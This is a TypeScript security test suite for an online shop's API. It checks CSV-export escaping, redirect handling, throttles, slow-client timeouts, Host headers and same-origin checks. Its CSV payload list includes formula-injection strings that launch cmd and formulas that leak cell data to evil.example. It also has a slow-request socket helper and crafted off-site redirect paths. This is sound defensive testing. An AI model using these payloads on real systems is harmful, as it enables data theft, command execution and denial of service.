/**
 * A hostile client at the edges of the shop, on SQLite and (TEST_MYSQL_URL) MariaDB: numbers at
 * their limits, spreadsheet formulas in the CSV export, the API's description, links and
 * redirects built from crafted paths, password guessing through a stolen session, slow bodies
 * and headers over a real socket, foreign Host headers, the same-origin check, and throttles
 * dodged by rotating IPv6 addresses. SECURITY.md lists what each case proves.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Response } from 'supertest';
import { LIMITS, MSG } from '../src/contract';
import type { Product } from '../src/contract';
import { CRAFTED_PATHS } from '@freakdrop/contract/locale.cases';
import { parseCsv } from './support/csv';
import { checkoutBody } from './support/orders';
import {
  ADMIN,
  createCategory,
  createProduct,
  createTestApp,
  TestApp,
  useAdminApp,
  useTestApp,
  statuses,
  expectError,
} from './support/test-app';

describe('security edges: numbers at their limits', () => {
  const { t, admin } = useAdminApp(['Vault']);

  it('an order totalling tens of millions of AED is a 400 in the error shape, nothing stored', async () => {
    const priceAED = LIMITS.maxPriceAED;
    const products: Product[] = [];
    for (let i = 0; i < 3; i++) {
      products.push(await createProduct(t, admin, 'VAULT', { priceAED, stockQuantity: 50 }));
    }
    // 3 × 10 × 1,000,000 AED = 30 million: past the 32-bit fils column of MariaDB.
    const body = checkoutBody(products.map((product) => ({ product, qty: 10 })));
    const res = await t.http().post('/api/orders').send(body);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      statusCode: 400,
      code: 'VALIDATION_FAILED',
      message: MSG.orderTotalTooLarge(LIMITS.maxOrderTotalAED),
      errors: { items: MSG.orderTotalTooLarge(LIMITS.maxOrderTotalAED) },
    });
    const [{ n }] = (await t.dataSource.query('SELECT COUNT(*) AS n FROM orders')) as Array<{
      n: unknown;
    }>;
    expect(Number(n)).toBe(0);
    // Just under the limit is an order like any other.
    const under = checkoutBody([{ product: products[0], qty: 9 }]);
    await t.http().post('/api/orders').send(under).expect(201);
  });

  it('the largest cash order setting stops below what the columns hold', async () => {
    const res = await admin
      .put('/api/admin/settings')
      .send({ deliveryAED: 20, brandTagline: 'Psycho Drip Streetwear', codMaxOrderAED: 1e8 });
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('VALIDATION_FAILED');
    await admin
      .put('/api/admin/settings')
      .send({
        deliveryAED: 20,
        brandTagline: 'Psycho Drip Streetwear',
        codMaxOrderAED: LIMITS.maxOrderTotalAED,
      })
      .expect(200);
  });
});

/** OWASP's CSV-injection payloads, and the separators a spreadsheet may split a cell on. */
const CSV_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example?leak="&A1,"Click")`,
  '+1+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@SUM(1+9)*cmd|calc!A0',
  '\t=1+2',
  '\r=1+2',
  'Ali;=1+2',
  'Ali,=1+2',
  'Ali\t=1+2',
  'Ali\n=1+2',
  'Ali; -1+2',
  '=10+20+cmd|" /C calc"!A0',
  `=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")`,
  'DDE ("cmd";"/C calc";"!A0")A0',
];

/** A cell a spreadsheet would run as a formula, split on any of its separators. */
function runsFormula(cell: string): boolean {
  if (/^[\t\r]/.test(cell)) return true;
  return cell.split(/[,;\t\r\n]/).some((piece) => /^ *[=+\-@]/.test(piece));
}

describe('security edges: the orders CSV', () => {
  const t = useTestApp();

  it('OWASP CSV-injection payloads in names and addresses never start a formula in any cell', async () => {
    const admin = await t.admin();
    await createCategory(admin, 'Tees');
    const tee = await createProduct(t, admin, 'TEES', { stockQuantity: 100 });
    for (const payload of CSV_PAYLOADS) {
      const body = {
        ...checkoutBody([{ product: tee, qty: 1 }]),
        customerName: `Ali ${payload}`.slice(0, 100),
        addressLine1: `Villa 1 ${payload}`.slice(0, 200),
        addressLine2: payload,
      };
      const res = await t.http().post('/api/orders').send(body);
      expect([payload, res.status]).toEqual([payload, 201]);
    }
    const csv = await admin.get('/api/admin/orders/export.csv').expect(200);
    const text = csv.text.replace(/^\uFEFF/, '');
    // Every cell is quoted: a separator inside one never ends it.
    for (const line of text.split('\r\n').filter(Boolean)) expect(line.startsWith('"')).toBe(true);
    const rows = parseCsv(text).slice(1);
    expect(rows).toHaveLength(CSV_PAYLOADS.length);
    for (const row of rows) {
      for (const cell of row) expect([cell, runsFormula(cell)]).toEqual([cell, false]);
    }
    // The payloads are all there, as text.
    const names = rows.map((r) => r[3]);
    expect(names).toContain("Ali Ali;'=1+2");
    expect(names).toContain("Ali Ali\t'=1+2");
    const addresses = rows.map((r) => r[6]);
    expect(addresses).toContain("Villa 1 =cmd|' /C calc'!A0, '=cmd|' /C calc'!A0");
    expect(addresses).toContain("Villa 1 Ali;'=1+2, Ali;'=1+2");
  });
});

describe('security edges: the API description', () => {
  const secret = { SESSION_SECRET: 'a-production-session-secret-0123456789abcdef' };

  it('in production it is not public; API_DOCS=on publishes it without a single admin route', async () => {
    const closed = await createTestApp({ NODE_ENV: 'production', ...secret });
    const open = await createTestApp({ NODE_ENV: 'production', API_DOCS: 'on', ...secret });
    try {
      for (const path of ['/api/docs', '/api/docs-json', '/api/docs-yaml']) {
        const res = await closed.http().get(path).expect(404);
        expect(res.body).toMatchObject({ statusCode: 404, code: 'NOT_FOUND' });
      }
      const json = (await open.http().get('/api/docs-json').expect(200)).body as {
        paths: Record<string, unknown>;
      };
      const paths = Object.keys(json.paths);
      expect(paths).toEqual(expect.arrayContaining(['/api/products', '/api/orders']));
      expect(paths.filter((p) => p.startsWith('/api/admin'))).toEqual([]);
      const yaml = await open.http().get('/api/docs-yaml').expect(200);
      expect(yaml.text).toContain('/api/products');
      // No path of the document is an admin route (path keys sit under `paths:`).
      expect(yaml.text).toMatch(/^ {2}\/api\/products:/m);
      expect(yaml.text).not.toMatch(/^ {2}\/api\/admin/m);
      await open.http().get('/api/docs').expect(200);
      // Staff read the whole document behind the console's guard, whatever API_DOCS says.
      await closed.http().get('/api/admin/docs-json').expect(401);
      const staff = await closed.admin();
      const whole = (await staff.get('/api/admin/docs-json').expect(200)).body as {
        paths: Record<string, unknown>;
      };
      expect(Object.keys(whole.paths).some((p) => p.startsWith('/api/admin/'))).toBe(true);
    } finally {
      await closed.close();
      await open.close();
    }
  });
});

/** The crafted paths a client can send on the wire (a raw tab is not a valid request line). */
const WIRE_PATHS = CRAFTED_PATHS.filter((p) => !p.includes('\t'));

describe('security edges: links and redirects built from the request path', () => {
  let t: TestApp;
  let dir: string;
  let origin: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'freakdrop-links-'));
    writeFileSync(
      join(dir, 'index.html'),
      '<!doctype html><html><head><!--seo--><title>x</title><!--/seo--></head><body><div id="root"></div></body></html>',
    );
    writeFileSync(join(dir, 'favicon.ico'), Buffer.from([0, 0, 1, 0]));
    mkdirSync(join(dir, 'assets', 'sub'), { recursive: true });
    writeFileSync(join(dir, 'assets', 'sub', 'a.js'), '1');
    t = await createTestApp({ STOREFRONT_DIR: dir });
    await t.app.listen(0, '127.0.0.1');
    origin = `http://127.0.0.1:${(t.app.getHttpServer().address() as AddressInfo).port}`;
    const admin = await t.admin();
    await createCategory(admin, 'Hoodies');
    await createProduct(t, admin, 'HOODIES', { slug: 'slime-hoodie' });
  });
  afterAll(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  /** Every URL the answer hands the browser: Location, and href/src/content/action attributes. */
  function urlsOf(res: Response): string[] {
    const urls: string[] = [];
    if (res.headers.location) urls.push(String(res.headers.location));
    const html = typeof res.text === 'string' ? res.text : '';
    for (const m of html.matchAll(/\b(?:href|src|content|action)="([^"]*)"/g)) {
      const value = m[1].replace(/&amp;/g, '&');
      if (/^(\/|\\|https?:|\/\/)/i.test(value)) urls.push(value);
    }
    return urls;
  }

  it('no crafted path, in English or Arabic, with or without a chosen language, leads off-site', async () => {
    const paths = WIRE_PATHS.flatMap((p) => [
      p,
      `/ar${p}`,
      `/product${p}`,
      `/ar/product${p}`,
      `/assets${p}`,
      `/assets/sub${p}`,
      `/shop?category=${encodeURIComponent(p)}`,
    ]);
    paths.push('/product/slime-hoodie', '/shop', '/assets/sub', '/ar', '/');
    let checked = 0;
    for (const path of paths) {
      for (const cookie of [undefined, 'fd_lang=ar', 'fd_lang=en']) {
        const req = t.http().get(path).redirects(0);
        if (cookie) req.set('Cookie', cookie);
        const res = await req;
        expect([path, res.status < 500]).toEqual([path, true]);
        for (const url of urlsOf(res)) {
          checked += 1;
          const resolved = new URL(url, `${origin}${path.startsWith('/') ? '' : '/'}`);
          expect([path, url, resolved.origin]).toEqual([path, url, origin]);
          expect([path, url, /^[/\\]{2}|^\/\\/.test(url)]).toEqual([path, url, false]);
        }
      }
    }
    // The walk met the links it is about: hreflang alternates and the chosen-language redirect.
    expect(checked).toBeGreaterThan(100);
    const redirected = await t
      .http()
      .get('/product/%2F%2Fevil.example')
      .set('Cookie', 'fd_lang=ar')
      .redirects(0);
    expect(redirected.status).toBe(302);
    expect(redirected.headers.location).toBe('/ar/product/evil.example');
    const arabic = await t.http().get('/ar//evil.example/').redirects(0);
    expect(arabic.text).toContain(`hreflang="en" href="${origin}/evil.example/"`);
  });
});

describe('security edges: password checks through a session', () => {
  const t = useTestApp({ TRUST_PROXY: 'loopback' });

  it('20 wrong current passwords at once: 5 are checked, 15 get 429, then even the right one waits', async () => {
    const session = await t.admin();
    const burst = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        session
          .put('/api/admin/account/password')
          // Each from another address: the limit is the account's, not only the client's.
          .set('X-Forwarded-For', `198.51.100.${i + 1}`)
          .send({ currentPassword: `guess-number-${i}`, newPassword: 'stolen-password-1' }),
      ),
    );
    expect(statuses(burst)).toEqual({ 400: 5, 429: 15 });
    const refused = burst.find((r) => r.status === 429)!;
    expect(refused.body).toMatchObject({
      statusCode: 429,
      code: 'THROTTLED',
      message: MSG.tooManyPasswordChecks,
    });
    expect(refused.body.retryAfterSeconds).toBeGreaterThan(0);
    await session
      .put('/api/admin/account/password')
      .send({ currentPassword: ADMIN.password, newPassword: 'stolen-password-1' })
      .expect(429);
    // The sign-in's own counters are another throttle: the admin can still sign in.
    await t.admin();
  });
});

/** A raw HTTP exchange: writes `head`, then `trickle` one byte every `everyMs`. */
function slowRequest(
  port: number,
  head: string,
  trickle: string,
  everyMs: number,
): Promise<{ answer: string; ms: number }> {
  return new Promise((resolve, reject) => {
    const started = Date.now();
    const socket = connect(port, '127.0.0.1');
    let answer = '';
    let sent = 0;
    let timer: NodeJS.Timeout | undefined;
    socket.setEncoding('utf8');
    socket.on('connect', () => {
      socket.write(head);
      timer = setInterval(() => {
        if (sent < trickle.length && socket.writable) socket.write(trickle[sent++]);
      }, everyMs);
    });
    socket.on('data', (chunk: string) => (answer += chunk));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      resolve({ answer, ms: Date.now() - started });
    });
    setTimeout(() => {
      socket.destroy();
      reject(new Error(`no answer after 30 s: ${answer}`));
    }, 30_000).unref();
  });
}

describe('security edges: slow clients on a real socket', () => {
  const t = useTestApp();
  let port: number;
  beforeAll(async () => {
    await t.app.listen(0, '127.0.0.1');
    port = (t.app.getHttpServer().address() as AddressInfo).port;
  });

  it('a body trickled a byte a second, and headers trickled alike, are cut within 10 s with 408', async () => {
    const body = JSON.stringify({ customerName: 'x'.repeat(300) });
    const [slowBody, slowHeaders] = await Promise.all([
      slowRequest(
        port,
        'POST /api/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n' +
          `Content-Length: ${body.length}\r\n\r\n`,
        body,
        1000,
      ),
      slowRequest(
        port,
        'GET /api/products HTTP/1.1\r\nHost: 127.0.0.1\r\n',
        'X-Slow: 1234567890',
        1000,
      ),
    ]);
    // The body's deadline is 8 s (plus its length at 50 KB/s); the headers' 10 s, which Node
    // checks every second. Slack for a loaded machine's timers on top.
    expect(slowBody.ms).toBeLessThan(10_500);
    expect(slowHeaders.ms).toBeLessThan(13_000);
    for (const { answer, ms } of [slowBody, slowHeaders]) {
      expect(answer).toMatch(/^HTTP\/1\.1 408 /);
      expect(JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4))).toEqual({
        statusCode: 408,
        code: 'REQUEST_TIMEOUT',
        message: MSG.requestTimeout,
      });
      expect(ms).toBeGreaterThan(7_000);
    }
    // The server still answers.
    await t.http().get('/api/health').expect(200);
  }, 40_000);
});

describe('security edges: the hosts the shop answers for', () => {
  it('without PUBLIC_URL: this machine’s names; any other Host is 400 before anything is built', async () => {
    const t = await createTestApp();
    try {
      await t.http().get('/api/products').expect(200);
      // A cached public answer is not a way around it either.
      await t.http().get('/api/products').expect(200);
      for (const host of ['localhost', 'localhost:3000', '127.0.0.1', '[::1]:80', hostname()]) {
        await t.http().get('/api/products').set('Host', host).expect(200);
      }
      for (const host of ['evil.example', 'evil.example:80', 'localhost.evil.example', '']) {
        const res = await t.http().get('/api/products').set('Host', host);
        expect([host, res.status]).toEqual([host, 400]);
        expectError(res, 400, 'VALIDATION_FAILED', MSG.hostNotAllowed);
      }
      await t.http().head('/').set('Host', 'evil.example').expect(400);
      // X-Forwarded-Host counts only from a trusted proxy: here it is ignored.
      await t.http().get('/api/products').set('X-Forwarded-Host', 'evil.example').expect(200);
    } finally {
      await t.close();
    }
  });

  it('with PUBLIC_URL and ALLOWED_HOSTS: those names (and loopback), and a proxy’s forwarded host is checked too', async () => {
    const t = await createTestApp({
      PUBLIC_URL: 'https://shop.example',
      ALLOWED_HOSTS: 'www.shop.example, admin.shop.example',
      TRUST_PROXY: 'loopback',
    });
    try {
      for (const host of ['shop.example', 'SHOP.example:443', 'www.shop.example', 'localhost']) {
        await t.http().get('/api/settings').set('Host', host).expect(200);
      }
      await t.http().get('/api/settings').set('Host', hostname()).expect(400);
      await t.http().get('/api/settings').set('Host', 'evil.example').expect(400);
      await t
        .http()
        .get('/api/settings')
        .set('Host', 'shop.example')
        .set('X-Forwarded-Host', 'evil.example')
        .expect(400);
      await t.http().get('/api/settings').set('X-Forwarded-Host', 'admin.shop.example').expect(200);
    } finally {
      await t.close();
    }
  });
});

describe('security edges: the same-origin check and client keys', () => {
  const t = useTestApp({ TRUST_PROXY: 'loopback', ALLOWED_HOSTS: 'shop.example' });

  const login = (origin: string, proto?: string) => {
    const req = t
      .http()
      .post('/api/auth/login')
      .set('Origin', origin)
      .set('X-Forwarded-Host', 'shop.example');
    if (proto) req.set('X-Forwarded-Proto', proto);
    return req.send({ email: ADMIN.username, password: ADMIN.password });
  };

  it('compares scheme, host and port', async () => {
    await login('https://shop.example', 'https').expect(200);
    await login('http://shop.example', 'http').expect(200);
    await login('https://shop.example:443', 'https').expect(200);
    const refused = await Promise.all([
      login('https://shop.example'), // the shop is http here: another origin
      login('http://shop.example', 'https'),
      login('https://shop.example:8443', 'https'),
      login('https://evil.example', 'https'),
      login('null', 'https'),
    ]);
    for (const res of refused) {
      expect(res.status).toBe(403);
      expect(res.body).toMatchObject({ statusCode: 403, code: 'FORBIDDEN' });
    }
  });

  it('an IPv6 client is one client for its whole /64; an IPv4 client is its address', async () => {
    const from = (ip: string, i: number) =>
      t
        .http()
        .post('/api/auth/login')
        .set('X-Forwarded-For', ip)
        .send({ email: `sprayed-${i}`, password: 'wrong-password' });
    // 30 names from 30 addresses of one /64: LOGIN_IP_RATE_LIMIT (20) holds for all of them.
    const rotating = await Promise.all(
      Array.from({ length: 30 }, (_, i) => from(`2001:db8:42:7::${(i + 1).toString(16)}`, i)),
    );
    expect(statuses(rotating)).toEqual({ 401: 20, 429: 10 });
    // The next /64 is someone else.
    await from('2001:db8:42:8::1', 99).expect(401);
    // IPv4 addresses are clients of their own (an IPv4-mapped one is its IPv4 address).
    const v4 = await Promise.all(Array.from({ length: 25 }, (_, i) => from(`203.0.113.${i}`, i)));
    expect(statuses(v4)).toEqual({ 401: 25 });
  });
});
